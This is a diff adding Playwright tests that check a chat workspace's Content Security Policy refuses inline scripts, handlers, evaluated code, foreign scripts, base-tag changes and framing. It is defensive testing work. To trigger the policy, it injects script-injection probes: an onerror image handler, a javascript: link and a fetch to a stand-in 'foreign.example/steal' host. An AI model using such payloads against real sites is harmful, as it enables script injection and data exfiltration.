@@ -1,0 +1,134 @@
+// The policy in a real browser: every screen lives within it, and what breaks it is refused.
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { BrowserContext, Page } from '@playwright/test';
+import { Agent } from './agent';
+import { expect, test } from './fixtures';
+
+declare global {
+  interface Window {
+    violations: string[];
+    ran?: string;
+  }
+}
+
+async function listen(context: BrowserContext): Promise<void> {
+  await context.addInitScript(() => {
+    window.violations = [];
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => window.violations.push(`${violatedDirective} ${blockedURI}`));
+  });
+}
+
+test('no screen of the product breaks its own policy, or asks anybody else for anything [BEY-100]', async ({ agent, context, newCustomer, server }) => {
+  const strangers = new Set<string>();
+  context.on('request', (request) => {
+    const url = new URL(request.url());
+    if (url.protocol !== 'blob:' && url.origin !== server.origin) strangers.add(request.url());
+  });
+  await listen(context);
+  const expectClean = async (where: string): Promise<void> => expect(await agent.page.evaluate(() => window.violations), where).toEqual([]);
+  for (const path of ['/login', '/tab-disabled', '/lost-connection', '/unsupported-browser', '/']) {
+    await agent.open(path);
+    await expect(agent.page.getByRole('heading', { level: 1 })).toBeVisible();
+    await expectClean(path);
+  }
+  await agent.signIn();
+  await agent.connectChat();
+  const customer = await newCustomer('Helena Duarte');
+  await customer.write('Bom dia');
+  await agent.send('Bom dia!');
+  await expect(customer.reads('Bom dia!')).toBeVisible();
+  await expectClean('the conversation');
+  await agent.page.getByRole('button', { name: 'Emoji' }).click();
+  await expect(agent.page.getByRole('searchbox', { name: /emoji/i })).toBeVisible();
+  await agent.page.keyboard.press('Escape');
+  await agent.page.getByRole('button', { name: 'Notificações' }).click();
+  await agent.page.keyboard.press('Escape');
+  await agent.chooseInOwnMenu('Preferências');
+  await expect(agent.dialog('Preferências')).toBeVisible();
+  await agent.page.keyboard.press('Escape');
+  await agent.card('Helena Duarte').click({ button: 'right' });
+  await expect(agent.page.getByRole('menu')).toBeVisible();
+  await agent.page.keyboard.press('Escape');
+  await agent.conversation.getByRole('button', { name: 'Finalizar' }).click();
+  await expect(agent.dialog('Finalizar atendimento')).toBeVisible();
+  await agent.page.keyboard.press('Escape');
+  await expectClean('menus and dialogs');
+  await agent.page.goto('/outside');
+  await expect(agent.page.getByRole('textbox', { name: 'Nome' })).toBeVisible();
+  await expectClean('the outside page');
+  expect([...strangers]).toEqual([]);
+});
+
+/** A browser whose complaints are expected: these tests break the policy. */
+async function intruder(context: BrowserContext, origin: string, path: string): Promise<Page> {
+  await listen(context);
+  const page = await context.newPage();
+  await page.goto(origin + path);
+  return page;
+}
+
+const doors = [
+  { name: 'the workspace', path: '/new-agent/' },
+  { name: 'the outside page', path: '/outside' },
+] as const;
+
+for (const { name, path } of doors) {
+  test(`${name} runs no inline script, no handler, no evaluated text and nothing from elsewhere [BEY-100]`, async ({ browser, server }) => {
+    const context = await browser.newContext();
+    const page = await intruder(context, server.origin, path);
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = "window.ran = 'script'";
+      document.body.append(script);
+      const picture = document.createElement('div');
+      picture.innerHTML = '<img src="/nothing.png" onerror="window.ran = \'handler\'"><a href="javascript:window.ran=\'link\'">x</a><style>body { display: none }</style>';
+      document.body.append(picture);
+      picture.querySelector('a')?.click();
+      // As text to a timer it would be evaluated.
+      setTimeout("window.ran = 'timer'" as unknown as () => void, 0);
+      const foreign = document.createElement('script');
+      foreign.src = 'https://foreign.example/x.js';
+      document.body.append(foreign);
+      const base = document.createElement('base');
+      base.href = 'https://foreign.example/';
+      document.head.append(base);
+      void fetch('https://foreign.example/steal').catch(() => undefined);
+    });
+    const broken = ['script-src-elem inline', 'script-src-attr inline', 'style-src-elem inline', 'script-src eval', 'script-src-elem https://foreign.example/x.js', 'base-uri https://foreign.example', 'connect-src https://foreign.example/steal'];
+    const seen = (): Promise<string[]> => page.evaluate(() => window.violations);
+    for (const violation of broken) await expect.poll(seen, violation).toContainEqual(expect.stringContaining(violation));
+    expect(await page.evaluate(() => window.ran)).toBeUndefined();
+    expect(await page.evaluate(() => document.baseURI)).toContain(server.origin);
+    expect(await page.evaluate(() => getComputedStyle(document.body).display)).not.toBe('none');
+    await context.close();
+  });
+
+  test(`${name} stands in no frame [BEY-100]`, async ({ browser, server }) => {
+    const foreign = createServer((_request, response) => response.setHeader('content-type', 'text/html').end(`<!doctype html><title>Moldura</title><iframe src="${server.origin}${path}"></iframe>`));
+    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    const refused = page.waitForEvent('console', (message) => /frame-ancestors|X-Frame-Options/i.test(message.text()));
+    await page.goto(`http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`);
+    await refused;
+    const frame = page.frames().find((candidate) => candidate.parentFrame() !== null);
+    expect(frame?.url()).toMatch(/^chrome-error:/);
+    await context.close();
+    await new Promise((resolve) => foreign.close(resolve));
+  });
+}
+
+test('an engine that does not know the new word compiles the module, and still runs nothing inline [BEY-100]', async ({ browser, server }) => {
+  const context = await browser.newContext({ userAgent: 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.85 Safari/537.36' });
+  const agent = new Agent(await intruder(context, server.origin, '/new-agent/'));
+  await agent.signIn();
+  await agent.page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = "window.ran = 'script'";
+    document.body.append(script);
+  });
+  await expect.poll(() => agent.page.evaluate(() => window.violations)).toEqual(['script-src-elem inline']);
+  expect(await agent.page.evaluate(() => window.ran)).toBeUndefined();
+  await context.close();
+});
